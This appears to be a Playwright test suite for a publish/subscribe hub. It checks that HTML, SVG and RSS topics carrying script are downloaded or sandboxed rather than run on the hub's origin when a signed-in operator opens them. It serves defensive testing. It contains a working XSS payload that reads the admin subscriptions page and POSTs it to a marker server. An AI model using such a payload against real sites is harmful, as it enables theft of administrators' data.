import type { Browser, BrowserContext, ConsoleMessage, Page } from 'playwright-core';
import { CHROMIUM_PROGRAM, launchChromium } from '../helpers/browser.js';
import { describeWith } from '../helpers/programs.js';
import { startTestHub, type TestHub, HUB_START_TIMEOUT } from '../helpers/hub.js';
import { startPublisher, startSubscriber, type Publisher, type Subscriber } from '../helpers/servers.js';
import { waitFor } from '../helpers/wait.js';

const TOKEN = 'origin-console-token-0123456789ab';

/**
 * Issue 20, item 1: a topic anyone can make (subscribe your own callback to
 * your own URL) holding script, opened by a signed-in operator from a link.
 * Each attack page is first shown to run where nothing stops it (the
 * publisher's own origin), so its silence on the hub's origin means the hub
 * stopped it, not that the payload was broken.
 */
describeWith(CHROMIUM_PROGRAM)('topics holding script, opened in Chromium by a signed-in operator', () => {
  let hub: TestHub;
  let publisher: Publisher;
  let subscriber: Subscriber;
  let marker: Publisher;
  let browser: Browser;
  let context: BrowserContext;
  let page: Page;
  const said: string[] = [];

  /** Script that announces itself, calls the marker server, and tries the console the way the reviewed attack did. */
  const payload = (tag: string) =>
    `console.log('crier-xss-ran ${tag} ' + location.origin);` +
    `const from = encodeURIComponent(location.origin);` +
    `fetch('${marker.origin}/ran/${tag}?from=' + from, { mode: 'no-cors' });` +
    `fetch('/admin/ui/subscriptions').then((r) => r.text())` +
    `.then((t) => fetch('${marker.origin}/loot/${tag}?from=' + from, { method: 'POST', body: t, mode: 'no-cors' }));`;
  const html = () =>
    `<!doctype html><html><head><title>innocent</title></head><body><p>hello</p><script>${payload('html')}</script></body></html>`;
  const svg = () =>
    `<svg xmlns="http://www.w3.org/2000/svg" width="10" height="10"><circle r="5"/><script>${payload('svg')}</script></svg>`;
  // A feed is served inline: here only the sandbox policy stands between its XHTML script and the hub's origin.
  const feed = () =>
    `<?xml version="1.0"?><rss version="2.0"><channel><title>F</title><link>http://publisher.example/</link><description>d</description>` +
    `<script xmlns="http://www.w3.org/1999/xhtml">${payload('feed')}</script>` +
    `<item><guid>x1</guid><title>one</title></item></channel></rss>`;

  beforeAll(async () => {
    hub = await startTestHub('pg-redis', { HUB_ADMIN_TOKEN: TOKEN, HUB_ADMIN_PORT: '0' });
    publisher = await startPublisher();
    subscriber = await startSubscriber();
    marker = await startPublisher();
    publisher.set('/evil.html', { body: html(), contentType: 'text/html; charset=utf-8' });
    publisher.set('/evil.svg', { body: svg(), contentType: 'image/svg+xml' });
    publisher.set('/evil.xml', { body: feed(), contentType: 'application/xml' });
    for (const path of ['/evil.html', '/evil.svg', '/evil.xml']) {
      await hub.subscribeAndWait(`${subscriber.origin}/own${path}`, publisher.topicUrl(path));
      await hub.post({ 'hub.mode': 'publish', 'hub.url': publisher.topicUrl(path) });
      await waitFor(() => subscriber.deliveries().some((d) => d.url === `/own${path}`), { what: `delivery of ${path}` });
    }
    browser = await launchChromium();
    context = await browser.newContext({ acceptDownloads: true });
    page = await context.newPage();
    page.on('console', (m: ConsoleMessage) => said.push(m.text()));
  }, HUB_START_TIMEOUT);
  afterAll(async () => {
    await browser?.close();
    await hub?.stop();
    await publisher?.close();
    await subscriber?.close();
    await marker?.close();
  });

  const retrieveUrl = (path: string) =>
    `${hub.url}?${new URLSearchParams({ 'hub.mode': 'retrieve', 'hub.topic': publisher.topicUrl(path) })}`;
  /** What the payload of `tag` reported to the marker server from `origin` ('ran', then 'loot' once it read a page). */
  const reports = (tag: string, origin: string) =>
    marker.requests
      .filter((r) => new URLSearchParams(r.url.split('?')[1] ?? '').get('from') === origin && r.url.split('?')[0].endsWith(`/${tag}`))
      .map((r) => r.url.split('/')[1]);
  const hubOrigin = () => new URL(hub.url).origin;

  test('the console works on its own origin (HUB_ADMIN_PORT), its cookie scoped to /admin/ui; the front has no console', async () => {
    const admin = hub.hub.adminUrl!;
    expect(new URL(admin).origin).not.toBe(new URL(hub.url).origin);
    expect((await fetch(new URL('/admin/ui/sign-in', hub.url))).status).toBe(404);
    expect((await fetch(new URL('/admin/topics', hub.url), { headers: { authorization: `Bearer ${TOKEN}` } })).status).toBe(404);

    await page.goto(new URL('/admin/ui/', admin).href);
    expect(new URL(page.url()).pathname).toBe('/admin/ui/sign-in');
    await page.fill('input[name=token]', TOKEN);
    await page.click('button[type=submit]');
    await page.waitForURL(new URL('/admin/ui/', admin).href);
    expect(await page.textContent('h1')).toBe('Overview');
    const cookies = await context.cookies();
    expect(cookies.map((c) => [c.name, c.path, c.httpOnly, c.sameSite]).sort()).toEqual([
      ['crier_console', '/admin/ui', true, 'Strict'],
      ['crier_csrf', '/admin/ui', true, 'Strict'],
    ]);

    // An action through its confirm page, as an operator does it.
    const [{ id }] = await hub.query(`select id from topics where url like '%/evil.html'`);
    await page.goto(new URL(`/admin/ui/confirm/pause-topic?id=${id}`, admin).href);
    await page.click('button[type=submit]:has-text("Pause topic")');
    await page.waitForURL(new URL(`/admin/ui/topics/${id}?done=pause-topic`, admin).href);
    expect((await hub.query('select paused_at from topics where id = $1', [id]))[0].paused_at).not.toBeNull();
  });

  test.each([
    ['html', '/evil.html'],
    ['svg', '/evil.svg'],
  ])('a topic of %s is saved as a download from the hub, never rendered, so its script does not run', async (tag, path) => {
    // The payload runs where nothing stops it.
    await page.goto(publisher.topicUrl(path));
    await waitFor(() => said.includes(`crier-xss-ran ${tag} ${publisher.origin}`) && reports(tag, publisher.origin).includes('ran'), {
      what: `the ${tag} payload running on the publisher's origin`,
    });

    const downloaded = page.waitForEvent('download', { timeout: 10_000 });
    // A download ends the navigation without a page (Chromium: "Download is starting"); a rendered topic gives a response.
    const rendered = await page.goto(retrieveUrl(path)).catch(() => null);
    expect({ rendered: rendered !== null, ran: said.filter((s) => s.startsWith(`crier-xss-ran ${tag} ${hubOrigin()}`)) }).toEqual({
      rendered: false,
      ran: [],
    });
    expect((await downloaded).url()).toBe(retrieveUrl(path));
    const res = await page.request.get(retrieveUrl(path));
    expect(res.headers()).toMatchObject({
      'content-disposition': 'attachment',
      'x-content-type-options': 'nosniff',
      'content-security-policy': "default-src 'none'; sandbox",
    });
    // The saved file is the topic, script and all: it was served, not rendered.
    expect(await res.text()).toContain('crier-xss-ran');
    // A page loaded after the download answers the marker; the attack page, had it run, would have done so first.
    await page.goto(`${marker.origin}/after-${tag}`);
    await waitFor(() => marker.requests.some((r) => r.url === `/after-${tag}`), { what: 'the page after' });
    expect(said.filter((s) => s.startsWith(`crier-xss-ran ${tag} ${hubOrigin()}`))).toEqual([]);
    expect(reports(tag, hubOrigin())).toEqual([]);
  });

  test('a feed carrying an XHTML script renders inline on the hub, sandboxed: the document loads and the script is blocked', async () => {
    await page.goto(publisher.topicUrl('/evil.xml'));
    await waitFor(() => said.includes(`crier-xss-ran feed ${publisher.origin}`) && reports('feed', publisher.origin).includes('ran'), {
      what: "the feed's payload running on the publisher's origin",
    });

    const response = await page.goto(retrieveUrl('/evil.xml'), { waitUntil: 'load' });
    expect(response!.status()).toBe(200);
    expect(response!.headers()).toMatchObject({
      'content-type': 'application/xml',
      'x-content-type-options': 'nosniff',
      'content-security-policy': "default-src 'none'; sandbox",
    });
    expect(response!.headers()['content-disposition']).toBeUndefined();
    // Loaded: the browser parsed the retrieved feed, script element included.
    expect(await page.evaluate(() => [document.documentElement.nodeName, document.getElementsByTagName('script').length])).toEqual([
      'rss',
      1,
    ]);
    await waitFor(() => said.some((s) => /sandboxed|allow-scripts/.test(s)), { what: "Chromium's report of the blocked script" });
    await page.goto(`${marker.origin}/after-feed`);
    await waitFor(() => marker.requests.some((r) => r.url === '/after-feed'), { what: 'the page after' });
    expect(said.filter((s) => s.startsWith(`crier-xss-ran feed ${hubOrigin()}`))).toEqual([]);
    expect(reports('feed', hubOrigin())).toEqual([]);
  });
});
